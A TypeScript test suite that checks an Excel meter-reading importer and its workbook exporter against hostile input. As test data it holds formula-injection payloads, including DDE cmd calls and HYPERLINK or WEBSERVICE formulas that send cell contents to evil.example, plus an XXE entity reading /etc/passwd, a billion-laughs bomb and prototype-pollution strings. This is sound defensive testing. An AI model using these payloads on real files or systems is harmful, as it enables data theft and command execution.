import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { afterEach, describe, expect, it } from 'vitest';
import type { Company, Store } from '../../../shared/domain/company';
import { buildEnergyWorkbook } from '../../../shared/energy/energyWorkbook';
import { defaultEnergySettings } from '../../../shared/energy/ledger';
import { importMeterRows, readXlsxRows, type CellValue, type MeterImportMapping } from '../../../shared/energy/meterImport';
import { ok, type Result } from '../../../shared/util/result';
import { expectChineseError, expectPrototypesIntact, expectRefused } from './hostileKit';
import { meterWorkbook } from './fixtures';

/*
 * Excel imports: cells that look like formulas stay text, formula cells are never evaluated (the
 * cached result is read, or nothing), hostile workbook XML is refused, row limits hold, and text
 * that came in this way goes back out escaped. The roster import (车辆花名册) has its crafted
 * cases in roster.hostile.test.ts and its generic ones through IMPORTERS in importers.ts.
 */

interface XlsxImporterUnderTest {
  readonly name: string;
  /** The first sheet's rows as the importer reads them (rows[0] is sheet row 1, cells[0] column A). */
  readonly readRows: (bytes: Uint8Array) => Promise<Result<readonly (readonly unknown[])[]>>;
}

const XLSX_IMPORTERS: readonly XlsxImporterUnderTest[] = [
  {
    name: 'meter workbook',
    readRows: async (bytes) => {
      const read = await readXlsxRows(bytes);
      return read.ok ? ok(read.value[0]?.rows ?? []) : read;
    },
  },
];

const FORMULA_LEADERS = ['=', '+', '-', '@', '\t', '\r', '＝'] as const;

async function workbookOf(fill: (sheet: ExcelJS.Worksheet) => void, sheetName = 'Sheet1'): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  fill(workbook.addWorksheet(sheetName));
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

/** Rewrites one part of an .xlsx (the zip) as text. */
function patchPart(bytes: Uint8Array, part: string, patch: (xml: string) => string): Uint8Array {
  const entries = unzipSync(bytes);
  const xml = entries[part];
  if (xml === undefined) throw new Error(`no ${part}`);
  return zipSync({ ...entries, [part]: strToU8(patch(strFromU8(xml))) });
}

afterEach(() => {
  expectPrototypesIntact();
});

describe.each(XLSX_IMPORTERS.map((i) => [i.name, i] as const))('%s: formula-like and formula cells', (_name, importer) => {
  async function rowsOf(bytes: Uint8Array): Promise<readonly (readonly unknown[])[]> {
    const result = await importer.readRows(bytes);
    if (!result.ok) throw new Error(result.error.message);
    return result.value;
  }

  it('reads text starting with = + - @ tab or CR as that exact text (50 workbooks × up to 20 cells)', async () => {
    const formulaLike = fc.tuple(fc.constantFrom(...FORMULA_LEADERS), fc.string({ maxLength: 40 })).map(([lead, rest]) => `${lead}${rest}`);
    await fc.assert(
      fc.asyncProperty(fc.array(formulaLike, { minLength: 1, maxLength: 20 }), async (texts) => {
        const rows = await rowsOf(await workbookOf((sheet) => texts.forEach((t, i) => (sheet.getCell(i + 1, 1).value = t))));
        // XML normalises CR and CR LF to LF (XML 1.0 §2.11); everything else comes back as typed.
        expect(rows.map((r) => r[0])).toEqual(texts.map((t) => t.replace(/\r\n?/g, '\n')));
      }),
      { numRuns: 50 },
    );
  });

  it.each([
    ['a DDE payload', "=cmd|' /C calc'!A0"],
    ['a HYPERLINK to a web site', '=HYPERLINK("http://evil.example/?d="&A1,"点我")'],
    ['a WEBSERVICE call', '=WEBSERVICE("http://evil.example/"&A1)'],
    ['an @-prefixed function', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
  ])('keeps %s typed as text as plain text', async (_label, text) => {
    const rows = await rowsOf(await workbookOf((sheet) => (sheet.getCell('A1').value = text)));
    expect(rows[0]?.[0]).toBe(text);
  });

  it('never evaluates formula cells: reads the cached result, or nothing when there is none', async () => {
    const bytes = await workbookOf((sheet) => {
      // A cached result that disagrees with the formula proves nothing recomputes it.
      sheet.getCell('A1').value = { formula: '1+1', result: 5 };
      sheet.getCell('A2').value = { formula: 'WEBSERVICE("http://evil.example/")', result: 7 };
      sheet.getCell('A3').value = { formula: 'NOW()' };
      sheet.getCell('A4').value = { formula: "cmd|' /C calc'!A0", result: '#N/A' };
      sheet.getCell('A5').value = { formula: 'HYPERLINK("http://evil.example/","点我")', result: '点我' };
    });
    const rows = await rowsOf(bytes);
    expect(rows.slice(0, 5).map((r) => r[0])).toEqual([5, 7, null, '#N/A', '点我']);
  });
});

describe('meter workbook: hostile workbook files', () => {
  it('refuses a sheet reaching row 1,000,000 (over the 50,000-row limit) without reading a million rows', async () => {
    const bytes = await workbookOf((sheet) => {
      sheet.getCell('A1').value = '抄表月份';
      sheet.getCell('A1000000').value = '远处的单元格';
    });
    const error = expectRefused(await readXlsxRows(bytes));
    expect(error.code).toBe('import.tooManyRows');
  });

  it('refuses workbook XML with an entity-expansion bomb (billion laughs) or an external entity', async () => {
    const base = await meterWorkbook();
    const laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>';
    const xxe = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
    for (const [doctype, entity] of [[laughs, '&lol4;'], [xxe, '&xxe;']] as const) {
      const bytes = patchPart(base, 'xl/sharedStrings.xml', (xml) => xml.replace('?>', `?>${doctype}`).replace('<t>抄表月份</t>', `<t>${entity}</t>`));
      const result = await readXlsxRows(bytes);
      if (result.ok) {
        // Tolerated only if the entity was left unexpanded: no file content, no expansion.
        const texts = result.value.flatMap((s) => s.rows.flat()).filter((v): v is string => typeof v === 'string');
        expect(texts.some((t) => t.includes('root:') || t.includes('lollollol'))).toBe(false);
      } else {
        expectChineseError(result.error);
      }
    }
  });

  it('survives sheet XML nested 10,000 elements deep', async () => {
    const bytes = patchPart(await meterWorkbook(), 'xl/worksheets/sheet1.xml', (xml) => xml.replace('<sheetData>', `<sheetData>${'<x>'.repeat(10_000)}${'</x>'.repeat(10_000)}`));
    const result = await readXlsxRows(bytes);
    if (!result.ok) expectChineseError(result.error);
  });

  it('keeps __proto__ and constructor as plain text in sheet names and cells', async () => {
    const bytes = await workbookOf((sheet) => {
      sheet.getCell('A1').value = '__proto__';
      sheet.getCell('B1').value = 'constructor';
      sheet.getCell('A2').value = '{"__proto__":{"isPolluted":true}}';
    }, '__proto__');
    const result = await readXlsxRows(bytes);
    if (!result.ok) throw new Error(result.error.message);
    expect(result.value[0]?.name).toBe('__proto__');
    expect(result.value[0]?.rows[0]).toEqual(['__proto__', 'constructor']);
  });

  it('refuses a workbook without sheets and an .xlsx that is really a renamed .docx', async () => {
    const docx = zipSync({ '[Content_Types].xml': strToU8('<?xml version="1.0"?><Types/>'), 'word/document.xml': strToU8('<w:document/>') });
    expectRefused(await readXlsxRows(docx));
  });
});

const STORES: readonly Store[] = [{ id: 'dc', companyId: 'c-1', name: '亦庄数据中心', kind: '数据中心', address: '', district: null, operatingSince: null, floorAreaSqm: null, note: '' }];
const MAPPING: MeterImportMapping = {
  headerRow: 3,
  month: { column: 0 },
  amount: { kind: 'consumption', column: 5 },
  unit: { kind: 'column', column: 6 },
  energyType: { kind: 'fixed', value: '电力' },
  site: { kind: 'column', column: 1 },
  note: { column: 7 },
};
let idCounter = 0;
const importOptions = { companyId: 'c-1', stores: STORES, existing: [], settings: defaultEnergySettings(), newId: () => `r-${++idCounter}` };

describe('meter import: hostile cell values', () => {
  const hostileCell: fc.Arbitrary<CellValue> = fc.oneof(
    fc.constant(null),
    fc.string({ maxLength: 30 }),
    fc.constantFrom('=1+1', '+1000', '-5', '@A1', '__proto__', 'constructor', '合计', '2021年13月', '2021-02-30', '1e400', 'NaN', '千瓦时', '亦庄数据中心'),
    fc.double(),
    fc.constantFrom(Number.NaN, Number.POSITIVE_INFINITY, -0, Number.MAX_VALUE, -1e12),
    fc.boolean(),
    fc.date({ noInvalidDate: false }),
    // Dates no calendar has: exceljs turns a serial of 1e308 into one of these.
    fc.constantFrom(new Date(Number.NaN), new Date(8.64e15), new Date(-8.64e15), 1e308, -1e308, -1, 2_958_466),
  );
  const headerRows: CellValue[][] = [['亦庄数据中心 电能表月度抄表记录'], [], ['抄表月份', '表计位置', '起码', '止码', '倍率', '用电量', '单位', '备注']];

  it('checks 300 sheets of hostile cells: never throws, Chinese messages, all readings or none', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(hostileCell, { maxLength: 9 }), { minLength: 1, maxLength: 12 }), async (rows) => {
        const result = await importMeterRows([...headerRows, ...rows], MAPPING, importOptions);
        for (const report of result.rows) for (const message of report.messages) expect(message).toMatch(/[\u4e00-\u9fff]/);
        expect(result.summary).toMatch(/[\u4e00-\u9fff]/);
        if (!result.isAccepted) expect(result.readings).toEqual([]);
        if (result.errorCount > 0) expect(result.isAccepted).toBe(false);
        for (const reading of result.readings) expect(Number.isFinite(reading.amount)).toBe(true);
      }),
      { numRuns: 300 },
    );
  });

  it('refuses a formula-looking amount as an error row, never computing it', async () => {
    const result = await importMeterRows([...headerRows, [new Date(Date.UTC(2021, 0, 1)), '亦庄数据中心', null, null, null, '=1000*1000', '千瓦时', '']], MAPPING, importOptions);
    expect(result.isAccepted).toBe(false);
    expect(result.readings).toEqual([]);
    expect(result.errorCount).toBe(1);
  });
});

describe('meter import → energy workbook: text that came in as a formula goes out escaped', () => {
  const NOTES = ['=HYPERLINK("http://evil.example/","点我")', '+86 10 1234', '-1', '@SUM(A1)', '=1+1', "=cmd|' /C calc'!A0"];

  it('writes every imported note as text with a leading apostrophe, never as a formula', async () => {
    const rows: CellValue[][] = NOTES.map((note, i) => [new Date(Date.UTC(2021, i, 1)), '亦庄数据中心', null, null, null, 1000 + i, '千瓦时', note]);
    const imported = await importMeterRows(
      [['标题'], [], ['抄表月份', '表计位置', '起码', '止码', '倍率', '用电量', '单位', '备注'], ...rows],
      MAPPING,
      importOptions,
    );
    expect(imported.isAccepted).toBe(true);
    expect(imported.readings.map((r) => r.note)).toEqual(NOTES);

    const company: Company = { ...((await import('./fixtures')).sampleWorkspace().companies[0]?.company as Company), id: 'c-1', name: '=北京测试公司' };
    const built = await buildEnergyWorkbook({
      company, stores: [{ ...STORES[0] as Store, name: '+亦庄数据中心' }], readings: imported.readings, settings: defaultEnergySettings(), year: 2021, generatedAt: '2026-11-26 10:00',
    });
    if (!built.ok) throw new Error(built.error.message);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(built.value as unknown as ExcelJS.Buffer);

    const cells: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
    const texts = cells.map((c) => (typeof c.value === 'object' && c.value !== null && 'text' in c.value ? String(c.value.text) : c.value));
    for (const note of NOTES) expect(texts, note).toContain(`'${note}`);
    // Nothing user-typed became a formula: the only formulas are the workbook's own arithmetic.
    const formulas = cells.map((c) => c.formula).filter((f): f is string => typeof f === 'string');
    expect(formulas.length).toBeGreaterThan(0);
    for (const f of formulas) expect(f).not.toMatch(/HYPERLINK|cmd|evil|SUM\(A1\)/);
    // Titles built from the company and site names are escaped too.
    expect(texts.filter((t) => typeof t === 'string' && /^[=+]/.test(t))).toEqual([]);
  });
});
